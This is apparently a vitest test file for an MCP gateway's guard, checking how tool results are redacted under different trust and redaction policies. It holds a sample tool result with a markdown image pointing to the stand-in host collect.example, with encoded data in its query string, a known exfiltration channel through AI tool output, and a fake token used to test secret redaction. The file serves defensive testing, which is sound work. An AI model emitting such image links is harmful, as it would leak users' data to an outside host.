import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest'
import { runMemoryGateway, shippedGuard, type MemoryGateway } from '../../../test/support/memory-gateway.ts'
import { guardPolicyDigest, shippedPolicy, type GuardPolicy } from '../../guard/policy/document.ts'
import { pinOf } from '../../guard/tools/pin.ts'
import { digestOf, type DeploymentId } from '../../kernel/index.ts'

const definition = { name: 'search', description: 'Finds tickets.', inputSchema: { type: 'object' } }
const pin = pinOf('mcp', definition)
const tools = [
  {
    toolId: 'tickets/search',
    definitionSha256: pin.ok ? pin.digest : digestOf('none'),
    effect: 'read' as const,
    autonomyMax: 'A0' as const,
  },
]
const image = 'See ![chart](https://collect.example/p.png?d=SGVsbG8gd29ybGQgb2YgZGF0YQ) for the week.'
let said = image
const server = createServer((request, response) => void answer(request, response))
async function answer(request: IncomingMessage, response: ServerResponse): Promise<void> {
  const chunks: Buffer[] = []
  for await (const chunk of request) chunks.push(chunk as Buffer)
  const { id, method } = JSON.parse(Buffer.concat(chunks).toString('utf8')) as {
    id?: unknown
    method?: string
  }
  const results: Readonly<Record<string, object>> = {
    'server/discover': { supportedVersions: ['2026-07-28'], capabilities: { tools: {} } },
    'tools/list': { tools: [definition] },
  }
  const result = results[method ?? ''] ?? { content: [{ type: 'text', text: said }] }
  response.writeHead(200, { 'content-type': 'application/json' })
  response.end(JSON.stringify({ jsonrpc: '2.0', id, result: { resultType: 'complete', ...result } }))
}
let [address, gateway]: [string, MemoryGateway | null] = ['', null]
beforeAll(async () => {
  await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve))
  address = `http://127.0.0.1:${(server.address() as AddressInfo).port}/mcp`
})
afterEach(async () => {
  said = image
  await gateway?.close()
  gateway = null
})
afterAll(() => void server.close())

/** The text that a client gets of a call under a policy; null where it is withheld. */
async function got(policyAt: (deployment: DeploymentId) => Partial<GuardPolicy>) {
  gateway = await runMemoryGateway({
    servers: { tickets: address },
    scope: { tools },
    change: (data) => {
      const [key] = data.keys
      if (key === undefined) throw new Error('there is a key')
      const base = shippedPolicy({ model: null, rules: shippedGuard.digest, languages: ['en'] })
      const policy = { ...base, ...policyAt(key.deployment) }
      return {
        ...data,
        guard: { inForce: { digest: guardPolicyDigest(policy), policy }, shadow: null, named: [] },
      }
    },
  })
  const response = await fetch(`${gateway.address}/mcp/tickets`, {
    method: 'POST',
    headers: {
      authorization: `Bearer ${gateway.token}`,
      accept: 'application/json, text/event-stream',
      'content-type': 'application/json',
      'mcp-protocol-version': '2026-07-28',
      'mcp-method': 'tools/call',
      'mcp-name': 'search',
    },
    body: JSON.stringify({
      jsonrpc: '2.0',
      id: 7,
      method: 'tools/call',
      params: {
        name: 'search',
        arguments: {},
        _meta: {
          'io.modelcontextprotocol/protocolVersion': '2026-07-28',
          'io.modelcontextprotocol/clientCapabilities': {},
        },
      },
    }),
  })
  const { result } = (await response.json()) as {
    result?: { isError?: boolean; content?: { text?: string }[] }
  }
  return result === undefined || result.isError === true ? null : (result.content?.[0]?.text ?? null)
}
const elsewhere = `dep_${'0'.repeat(26)}` as DeploymentId
const source = (deployment: DeploymentId, server = 'tickets', tool: string | null = null) => ({
  sources: [{ deployment, server, tool }],
})

test.each<[string, (deployment: DeploymentId) => Partial<GuardPolicy>, boolean]>([
  ['nobody is named', () => ({}), false],
  ['its server', (deployment) => source(deployment), true],
  ['its tool', (deployment) => source(deployment, 'tickets', 'search'), true],
  ['another tool', (deployment) => source(deployment, 'tickets', 'find'), false],
  ['another server', (deployment) => source(deployment, 'mail'), false],
  ['its server, at another deployment', () => source(elsewhere), false],
])('a result is believed like a user where its source is named: %s', async (_what, policyAt, isBelieved) => {
  const text = await got(policyAt)
  if (isBelieved) expect(text).toBe(image)
  else expect(text).not.toContain('collect.example')
})

test('who is named is believed like a user, and no more: a secret is still taken out', async () => {
  said = `Token ghp_${'a1B2c3D4e5F6'.repeat(3)}`
  expect(await got((deployment) => source(deployment))).toBe('Token [SECRET]')
})

test.each<[GuardPolicy['redaction'] & object, 'passes' | 'taken out' | 'withheld']>([
  [{}, 'taken out'],
  [{ exfiltration: 'flag' }, 'passes'],
  [{ exfiltration: 'block' }, 'withheld'],
  [{ structure: 'flag' }, 'taken out'],
])('a policy that says %j', async (redaction, wanted) => {
  const text = await got(() => ({ redaction }))
  const became = text === null ? 'withheld' : text === image ? 'passes' : 'taken out'
  expect(became).toBe(wanted)
})
